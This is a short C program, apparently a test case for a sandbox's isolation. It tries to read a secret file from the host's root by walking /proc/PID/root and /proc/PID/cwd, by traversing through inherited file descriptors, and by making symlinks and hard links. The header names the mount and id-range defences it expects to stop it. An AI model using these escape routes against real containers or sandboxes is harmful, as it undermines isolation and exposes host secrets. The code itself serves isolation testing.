/* Reads a file of the host's root, by its path and by the ways around it.
 * goal: the secret word in it
 * stopped by: a file tree of its own, in which it does not exist; behind it an id range that owns nothing outside
 * first: mounts
 * second: ids
 */
#include "attack.h"
int main(void) {
    char path[PATH_MAX];
    const char *secret = aim("ATTACK_SECRET");
    show(secret);
    /* Through what other processes have as their root, and through descriptors that were left open. */
    for (int pid = 1; pid < 64; pid++) {
        snprintf(path, sizeof path, "/proc/%d/root%s", pid, secret);
        show(path);
        snprintf(path, sizeof path, "/proc/%d/cwd/../../../../..%s", pid, secret);
        show(path);
    }
    for (int fd = 0; fd < 256; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, secret);
        show(path);
    }
    if (symlink(secret, "link") == 0) show("link");
    if (link(secret, "hard") == 0) show("hard");
    return tried();
}
